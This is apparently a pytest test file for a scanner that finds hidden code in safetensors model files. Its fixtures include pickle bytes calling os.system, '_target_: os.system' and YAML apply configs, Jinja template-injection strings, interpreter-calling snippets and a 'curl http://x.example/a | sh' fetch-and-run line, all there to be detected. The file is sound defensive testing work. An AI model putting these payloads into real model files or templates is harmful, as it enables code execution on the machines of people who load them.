from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Callable

import pytest

from modelscan.formats import safetensors_payload
from tests.forge import reading
from tests.forge import safetensors as forge
from tests.forge.archives import python_zip

CALL = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."
PE = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\0\0" + bytes(60)


def _with(payload: bytes, dtype: str = "U8", shape: list[int] | None = None) -> bytes:
    table = forge.header({"stage": (dtype, shape or [len(payload)])})
    return forge.assemble(table, payload)


@pytest.mark.parametrize(
    "payload",
    [
        b"\x7fELF" + bytes(60), PE, python_zip({"a": b"b"}), b"#!/bin/sh\nid\n",
        b"\x1f\x8b\x08\0" + bytes(20), CALL,
    ],
)  # fmt: skip
@pytest.mark.parametrize("dtype", ["U8", "I8"])
def test_a_tensor_that_is_a_file(payload: bytes, dtype: str) -> None:
    assert "safetensors-hidden-file" in reading.fails(_with(payload, dtype), "m.safetensors")


def test_what_is_hidden_is_read_in_its_turn() -> None:
    assert "pickle-dangerous-call" in reading.fails(_with(CALL), "m.safetensors")
    text = base64.b64encode(CALL + bytes(1)).decode()
    raw = forge.small({"format": "pt", "notes": text})
    assert reading.fails(raw, "m.safetensors") == [
        "pickle-dangerous-call", "safetensors-hidden-file",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "payload",
    [
        bytes(64),
        b"MZ" + bytes(100),
        b"\x80\x04" + bytes(62),
        b'{"quant_type": "nf4"}',
        b"",
        b"\x80",
    ],
)
def test_tensors_of_bytes_are_ordinary(payload: bytes) -> None:
    assert reading.quiet(_with(payload), "m.safetensors")


@pytest.mark.parametrize("shape", [[1, -1], [-1, 1], [1, 1, -1]])
@pytest.mark.parametrize("dtype", ["U8", "I8"])
def test_bytes_of_any_shape_are_looked_into(shape: list[int], dtype: str) -> None:
    extents = [len(CALL) if extent < 0 else extent for extent in shape]
    assert reading.fails(_with(CALL, dtype, extents), "m.safetensors")


def test_numbers_are_not_looked_into() -> None:
    raw = CALL + bytes(-len(CALL) % 4)
    assert reading.quiet(_with(raw, "F32", [len(raw) // 4]), "m.safetensors")


def test_quantised_weights_that_begin_like_a_pickle_by_chance() -> None:
    raw = bytes.fromhex("800567bf0bb892bf60a15dbf7fc4a0bf") * 9
    assert reading.quiet(_with(raw, "U8", [len(raw), 1]), "m.safetensors")


@pytest.mark.parametrize(
    "pack",
    [
        lambda raw: base64.b64encode(gzip.compress(raw)),
        lambda raw: base64.b64encode(zlib.compress(raw)),
        lambda raw: base64.b64encode(base64.b64encode(raw)),
        lambda raw: base64.urlsafe_b64encode(raw[:-1] + b"0C\x03\xff\xfe\xfb.").rstrip(b"="),
    ],
    ids=["gzip", "zlib", "twice", "url-safe"],
)
def test_layers_around_a_pickle_in_text(pack: Callable[[bytes], bytes]) -> None:
    raw = forge.small({"a": pack(CALL).decode()})
    assert reading.fails(raw, "m.safetensors")


def test_other_text_in_base64_is_data() -> None:
    for data in (b"a thumbnail, say" * 9, gzip.compress(b"some notes"), zlib.compress(bytes(99))):
        assert reading.quiet(forge.small({"a": base64.b64encode(data).decode()}), "m.safetensors")


def test_a_document_in_the_metadata_is_read_as_one() -> None:
    document = json.dumps({"model": {"_target_": "os.system", "command": "id"}})
    raw = forge.small({"format": "pt", "config": document})
    assert reading.fails(raw, "m.safetensors") == ["config-calls-dangerous-name"]


@pytest.mark.parametrize(
    ("metadata", "rule"),
    [
        ({"_target_": "os.system", "command": "id"}, "config-calls-dangerous-name"),
        ({"config": "model:\n  _target_: os.system\n"}, "config-calls-dangerous-name"),
        ({"config": "!!python/object/apply:os.system [id]"}, "config-calls-dangerous-name"),
        ({"a": "cos\nsystem\n(S'id'\ntR."}, "pickle-dangerous-call"),
        ({"a": CALL.hex() + "00"}, "pickle-dangerous-call"),
        ({"a": CALL.decode("latin-1")}, "pickle-dangerous-call"),
        ({"a": "#!/bin/sh\nid"}, "safetensors-code-in-metadata"),
        ({"a": "curl http://x.example/a | sh"}, "safetensors-code-in-metadata"),
        (
            {"chat_template": "{{ cycler|attr('__in'~'it__')|attr('__globals__') }}"},
            "template-hidden-attribute",
        ),
    ],
)
def test_metadata_of_any_notation(metadata: dict[str, str], rule: str) -> None:
    found = reading.fails(forge.small(metadata), "m.safetensors")
    assert found
    assert rule in found or rule.startswith("template")


def test_metadata_that_is_no_text_is_read_all_the_same() -> None:
    table = {**forge.header({"w": ("U8", [4])}), "__metadata__": {"a": {"_target_": "os.system"}}}
    assert reading.fails(forge.assemble(table), "m.safetensors") == [
        "config-calls-dangerous-name", "safetensors-bad-metadata",
    ]  # fmt: skip


@pytest.mark.parametrize(("dtype", "known"), [("F4_E2M1", True), ("MXFP4", False), ("OBJ", False)])
def test_a_dtype_of_a_later_version_is_no_impossible_one(dtype: str, known: bool) -> None:
    table = forge.header({"w": ("U8", [4])})
    table["w"]["dtype"] = dtype
    rules = reading.fails(forge.assemble(table), "m.safetensors")
    assert ("safetensors-structure-contradicts" in rules) is not known


@pytest.mark.parametrize(
    "text",
    ["__import__('os').system('id')", "exec(base64.b64decode('aWQ='))", "os.popen('id')",
     "{{ ''.__class__.__mro__ }}", "subprocess.run(['id'])"],
)  # fmt: skip
def test_text_that_calls_the_interpreter(text: str) -> None:
    raw = forge.small({"format": "pt", "init": text})
    assert reading.fails(raw, "m.safetensors") == ["safetensors-code-in-metadata"]


@pytest.mark.parametrize(
    "text",
    ["", "pt", "Execute (order) 66; eval(uation) of subprocess", "{not json", "[1, 2]",
     '{"ss_network_module": "networks.lora", "target": "all"}', "gASVx", "gASV" + "A" * 40, "gA" + "A" * 23,
     "8004" + "ab" * 30, "\x80é\u4e00", "cat\nnap\n", "|sheep", "{{ name }}",
     "data:image/jpeg;base64,/9j/4AAQSkZJRg=="],
)  # fmt: skip
def test_ordinary_metadata_is_quiet(text: str) -> None:
    assert reading.quiet(forge.small({"format": "pt", "note": text}), "m.safetensors")


def test_hundreds_of_payloads_are_no_flood() -> None:
    values = {f"k{index}": "__import__('os')" for index in range(100)}
    facts, _ = reading.read(forge.small(values), "m.safetensors")
    assert len(facts) == 21


def test_thousands_of_tensors_of_bytes_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    table = forge.header({f"t{index}": ("U8", [4]) for index in range(100)})
    raw = forge.assemble(table, bytes(4 * 99) + b"\x7fELF")
    assert reading.fails(raw, "m.safetensors") == ["safetensors-hidden-file"]
    monkeypatch.setattr(safetensors_payload, "_MAX_LOOKED_AT", 99)
    assert reading.gaps(raw, "m.safetensors") == ["more than 99 tensors of bytes"]


@pytest.mark.parametrize("encode", [base64.b85encode, base64.a85encode])
@pytest.mark.parametrize("pack", [bytes, zlib.compress])
def test_base85_is_unpacked(
    encode: Callable[[bytes], bytes], pack: Callable[[bytes], bytes]
) -> None:
    text = encode(pack(CALL + bytes(40))).decode()
    assert "pickle-dangerous-call" in reading.fails(forge.small({"notes": text}), "m.safetensors")


@pytest.mark.parametrize("depth", [1, 2, 3])
def test_documents_within_documents_are_read(depth: int) -> None:
    text = json.dumps({"_target_": "os.system", "command": "id"})
    for _ in range(depth):
        text = json.dumps({"list": [1, {"config": text}]})
    raw = forge.small({"settings": text})
    assert reading.fails(raw, "m.safetensors") == ["config-calls-dangerous-name"]


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"config": json.dumps({"_target_": "torch.nn.Linear", "bias": True})}),
        json.dumps({"a": json.dumps({"class_name": "Dense"}), "b": ["\\"] * 9}),
        '{"class_name": "\\',
        "~!@#$%^&*()_+-=[]{}|;:,./<>?" * 3,
        "0123456789abcdefABCDEF~~~~~~~~~~~~~~~~~~~~~~",
        "[" + ",".join([json.dumps(json.dumps({"class_name": "Dense", "config": {}}))] * 90) + "]",
    ],
)
def test_texts_in_documents_are_ordinary(text: str) -> None:
    assert reading.fails(forge.small({"settings": text}), "m.safetensors") == []


def test_more_documents_than_any_file_has_are_a_gap() -> None:
    texts = {f"a{number}": json.dumps({"_target_": "torch.nn.Linear"}) for number in range(70)}
    assert reading.gaps(forge.small(texts), "m.safetensors")
